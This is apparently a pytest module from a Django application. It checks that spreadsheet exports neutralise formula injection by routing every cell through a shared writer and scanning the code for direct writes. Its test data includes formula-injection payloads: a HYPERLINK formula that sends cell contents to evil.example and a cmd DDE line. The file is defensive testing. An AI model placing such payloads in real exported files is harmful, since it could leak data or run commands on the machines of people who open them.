"""Excel exports write user text as text (OWASP formula injection): the shared row writer, a check that
every module writing a workbook goes through it, and that every export URL has a test opening its file."""

from __future__ import annotations

import ast
import importlib
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import Workbook, load_workbook

from civicgrid.core import xlsx
from civicgrid.testing import FORMULA_TEXT

ROOT = Path(__file__).resolve().parents[2]  # the civicgrid package

# every URL whose route names an export -> the test that opens its file and finds no formula (the case,
# enterprise and disbursement lists' exports run in the background, reports.kinds: their tests open the
# background run's file: cases.tests.test_export, enterprises.tests.test_views, subsidies.tests.test_excel)
EXPORT_TESTS = {
    # a JSON/PDF copy of one person's data (PIPL), not a sheet: its test opens both
    "privacy/subject-export/": "civicgrid.privacy.tests.test_privacy::"
                               "test_staff_export_needs_the_permission_and_a_reason",
    "people/export/": "civicgrid.people.tests.test_export_text::test_people_export_writes_names_and_addresses_as_text",
    "api/v1/people/export": "civicgrid.people.tests.test_export_text::"
                            "test_people_export_writes_names_and_addresses_as_text",
    "gridops/campaigns/<int:pk>/export/": "civicgrid.gridops.campaigns.tests.test_export_text::"
                                          "test_campaign_export_writes_addresses_answers_and_labels_as_text",
    "api/v1/gridops/campaigns/<campaign_id>/export": "civicgrid.gridops.campaigns.tests.test_export_text::"
                                                     "test_campaign_export_writes_addresses_answers_and_labels_as_text",
    "gridops/patrols/compliance/export/": "civicgrid.gridops.patrols.tests.test_export_text::"
                                          "test_compliance_export_writes_names_as_text",
    "api/v1/subsidies/export": "civicgrid.subsidies.tests.test_excel::test_export_is_masked_and_formula_safe",
}


def _book(write_only: bool, rows: list[list]) -> list[list]:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    for row in rows:
        xlsx.write_row(sheet, row)
    buffer = BytesIO()
    book.save(buffer)
    return [list(row) for row in load_workbook(BytesIO(buffer.getvalue())).worksheets[0].iter_rows()]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_looks_like_a_formula_is_written_as_text(write_only):
    rows = _book(write_only, [FORMULA_TEXT, ["普通文字", 42, -3.5, True, None]])

    assert [(c.value, c.data_type) for c in rows[0]] == [
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "s"), ("+1+cmd|' /C calc'!A0", "s"), ("-2+3", "s"),
        ("@SUM(1+1)", "s"), ("\t=1+1", "s"), ("\n=1+1", "s"),  # a carriage return reads back as a line feed
    ]
    assert all(c.quotePrefix for c in rows[0])  # as if typed after an apostrophe: edited, it stays text
    assert [(c.value, c.data_type) for c in rows[1][:4]] == [("普通文字", "s"), (42, "n"), (-3.5, "n"), (True, "b")]
    assert not rows[1][0].quotePrefix


def test_control_characters_an_xlsx_cannot_hold_are_dropped_not_fatal():
    rows = _book(True, [["a\x00b\x1bc", "\x07=1+1", "行一\r\n行二"]])

    assert [(c.value, c.data_type) for c in rows[0]] == [("abc", "s"), ("=1+1", "s"), ("行一\n行二", "s")]


def _workbook_writers() -> list[Path]:
    """Production modules that make an openpyxl Workbook (the reading side uses load_workbook)."""
    found = []
    for path in sorted(ROOT.rglob("*.py")):
        if "tests" in path.parts or path == ROOT / "core" / "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source and "Workbook" in source.replace("load_workbook", ""):
            found.append(path)
    return found


def _direct_writes(tree: ast.Module) -> list[int]:
    """Lines that put a value into a sheet without write_row: `sheet.append(...)`, `sheet.cell(..., value=…)`,
    `sheet["A1"] = …` or `cell.value = …`, where `sheet` was assigned from `create_sheet(…)`, `.active` or
    `book[…]`."""
    sheets = {target.id for node in ast.walk(tree) if isinstance(node, ast.Assign)
              for target in node.targets if isinstance(target, ast.Name)
              and ("create_sheet(" in ast.unparse(node.value) or ast.unparse(node.value).endswith(".active")
                   or (isinstance(node.value, ast.Subscript) and "book" in ast.unparse(node.value.value)))}
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                and isinstance(node.func.value, ast.Name) and node.func.value.id in sheets \
                and (node.func.attr == "append" or (node.func.attr == "cell" and any(
                    k.arg == "value" for k in node.keywords) or len(node.args) > 2)):
            lines.append(node.lineno)
        if isinstance(node, ast.Assign) and any(
                (isinstance(t, ast.Subscript) and isinstance(t.value, ast.Name) and t.value.id in sheets)
                or (isinstance(t, ast.Attribute) and t.attr == "value") for t in node.targets):
            lines.append(node.lineno)
    return sorted(lines)


def test_the_scan_finds_direct_writes():
    source = ("sheet = book.create_sheet('a')\nsheet.append(['=1'])\nsheet.cell(1, 1, '=1')\n"
              "sheet['A1'] = '=1'\nother = book.active\nother.cell(row=1, column=1).value = '=1'\n"
              "rows = []\nrows.append(1)\nxlsx.write_row(sheet, ['=1'])\n")
    assert _direct_writes(ast.parse(source)) == [2, 3, 4, 6]


def test_every_workbook_writer_puts_values_through_write_row():
    """A direct write would let a string starting with "=" become a formula."""
    writers = _workbook_writers()
    direct = [f"{path.relative_to(ROOT.parent)}:{line}" for path in writers
              for line in _direct_writes(ast.parse(path.read_text(encoding="utf-8")))]

    assert len(writers) >= 5  # cases, people, campaigns, patrols and enterprises export
    assert direct == [], "write Excel rows with civicgrid.core.xlsx.write_row (user text stays text)"


def _routes(patterns, prefix: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern)


def test_every_export_url_has_a_test_that_opens_its_file():
    exports = {route for route in _routes(get_resolver().url_patterns) if "export" in route}

    assert exports == set(EXPORT_TESTS)
    for target in set(EXPORT_TESTS.values()):
        module, name = target.split("::")
        assert callable(getattr(importlib.import_module(module), name)), target
